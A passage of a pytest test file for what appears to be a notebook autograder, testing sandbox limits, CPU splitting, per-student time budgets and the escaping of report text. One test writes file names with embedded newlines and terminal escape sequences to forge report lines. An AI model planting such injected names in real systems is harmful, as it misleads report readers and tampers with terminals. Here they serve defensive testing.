                              "sandbox": sorted({row["sandbox"] for row in rows}), "console": lines,
                              "hogs_after": t.hog_comms(), "leak_shown": leak}))
"""


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("runuser"),
                    reason="needs root to run the class as an unprivileged user (runuser)")
def test_a_normal_users_run_says_what_it_goes_without(root, tmp_path_factory):
    """The honest and hog students graded by an unprivileged user: the honest one gets every point,
    no hog survives, and the console and grades.csv name every whole-sandbox protection it lacked."""
    import pwd
    import tempfile

    from tito.isolation import limits

    if subprocess.run(["id", NONROOT_USER], capture_output=True).returncode != 0:
        subprocess.run(["useradd", "-m", NONROOT_USER], check=True)
    base = Path(tempfile.mkdtemp(prefix="tito-nonroot-"))  # the course released once per run, theirs here
    try:
        subs.stats_course(tmp_path_factory, base / "course", root, CELL_TIMEOUT, LOW_CAPS)
        user = pwd.getpwnam(NONROOT_USER)
        for p in [base, *base.rglob("*")]:
            os.chown(p, user.pw_uid, user.pw_gid, follow_symlinks=False)
        done = subprocess.run(["runuser", "-u", NONROOT_USER, "--", sys.executable, "-c", NONROOT_SCRIPT,
                               str(Path(__file__).parent), str(root), str(base)], capture_output=True, text=True,
                              timeout=900, cwd="/tmp",
                              env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": f"/home/{NONROOT_USER}"})
    finally:
        shutil.rmtree(base, ignore_errors=True)
    line = next((l for l in done.stdout.splitlines() if l.startswith("RESULT ")), None)
    assert line, done.stdout[-3000:] + done.stderr[-3000:]
    got = json.loads(line[len("RESULT "):])
    assert got["scores"]["a-honest"][:2] == [subs.FULL, subs.FULL], got["scores"]
    hog = got["scores"]["b-hog"]
    assert hog[0] == subs.FULL, hog  # its spread passes only when the hogs of its earlier calls are gone
    assert got["hogs_after"] == []
    # each process in a user namespace of its own: the feedback run sees nothing of the tests' run
    assert got["scores"]["i-leak"][0] == subs.FULL, got["scores"]["i-leak"]
    shown = got["leak_shown"]
    assert len(shown) == 6 and all("LEAKED" not in s for s in shown), shown
    assert all("nothing found" in s for s in shown[:4]) and "OTHER none" in shown[4], shown
    assert "ZZNS 1 38 1 []" in shown[5], shown  # red team 49: the filter each notebook process loads, as a normal user
    # no CPU share from a cgroup: with at least as many cores as --jobs 2, each student gets cores of its own
    gone = [limits.MEMORY, limits.PROCESSES] + ([] if limits.cpu_split(2) else [limits.CPU]) + [limits.SCRATCH]
    assert got["sandbox"] == [sandbox.registered()().label(gone)]
    assert any("WITHOUT: " + ", ".join(gone) in l for l in got["console"]), got["console"]


def test_students_graded_at_once_get_cores_of_their_own():
    """Without a cgroup CPU share the cores are split by --jobs: disjoint sets, one held per student."""
    from tito.isolation import limits

    cores = sorted(os.sched_getaffinity(0))
    assert limits.cpu_split(len(cores) + 1) is None
    assert limits.cpu_split(1) == [cores]
    if len(cores) < 2:
        pytest.skip("one core: nothing to split")
    split = limits.cpu_split(2)
    assert sorted(c for s in split for c in s) == cores and not set(split[0]) & set(split[1])
    with limits.cpu_slot(split) as a, limits.cpu_slot(split) as b:
        assert a and b and not a & b and a | b == set(cores)
    assert not limits.gaps(cores_split=True).count(limits.CPU)


def test_a_file_name_cannot_write_lines_or_escapes_into_the_report(tmp_path):
    (tmp_path / "ann").mkdir()
    (tmp_path / "ann" / "a.ipynb").write_text('{"cells": []}')
    (tmp_path / "ann" / "x\nbob: 10 of 10 graded.txt").write_text("")
    os.mkfifo(tmp_path / "ann" / "p\x1b[2J.ipynb")
    (tmp_path / "ev\x1b]0;title\x07il").mkdir()
    problems = classrun.scan_submissions(tmp_path, "m", {"a.ipynb"}).problems
    assert problems and all(line.isprintable() for line in problems), problems
    assert any("bob: 10 of 10" in line and line.startswith("ann: 'x\\n") for line in problems), problems


# ---- a student's time budget ----------------------------------------------------------------------------

def test_a_sleeping_student_costs_the_class_its_budget_only(tmp_path, root, tmp_path_factory):
    """settings.ini student_seconds = 45: a student whose code sleeps (every call, and a feedback run of
    a minute) is stopped there, their unfinished notebooks scoring 0 with the reason; an honest student
    of the same run is graded in full."""
    if sandbox.find() is None:
        pytest.fail(sandbox.registered().install_hint)
    course, rel = subs.stats_course(tmp_path_factory, tmp_path / "course", root, CELL_TIMEOUT, "student_seconds = 45\n")
    assert course.student_seconds == 45
    stems = ("stats_dev", "extra_dev")
    source = {s: subs.load(course.nbs_dir / MODULE / f"{s}.ipynb") for s in stems}
    blank = {s: subs.load(rel.release_dir / f"{s}.ipynb") for s in stems}
    sleeper = subs._cheat(blank, "", {"stats-mean": "import time\ntime.sleep(60)\nreturn sum(xs) / len(xs)"})
    nb = json.loads(json.dumps(sleeper["stats_dev"]))
    for i in range(15):  # a feedback run of over a minute, each cell within its time limit
        nb["cells"].insert(0, {"cell_type": "code", "execution_count": None, "id": f"zzsleep{i}", "metadata": {},
                               "outputs": [], "source": "import time\ntime.sleep(4.5)"})
    sleeper["stats_dev"] = nb
    sub = tmp_path / "submissions"
    for name, nbs in {"a-honest": source, "z-sleeper": sleeper}.items():
        for stem, nb in nbs.items():
            subs.save(nb, sub / name / f"{stem}.ipynb")
    results = {r.student: r for r in classrun.grade(course, MODULE, sub, tmp_path / "out",
                                                    progress=lambda *a, **k: None, jobs=2)}
    honest = results["a-honest"]
    assert (honest.score, honest.max_score) == (subs.FULL, subs.FULL), honest.reason
    slept = {n.notebook: n for n in results["z-sleeper"].notebooks}
    # extra_dev (graded first) keeps its verdicts; stats_dev was not done within the budget
    assert slept["extra_dev"].status == "tests failed" and "not yet implemented" in slept["extra_dev"].reason
    assert slept["stats_dev"].score == 0 and slept["stats_dev"].status == "timeout"  # their time, not a grading failure
    assert "time budget of 45 s (student_seconds in settings.ini)" in slept["stats_dev"].reason
    row = _rows(tmp_path / "out")[("z-sleeper", "stats_dev")]
    assert "student_seconds" in row["reason"] and row["score"] == "0"
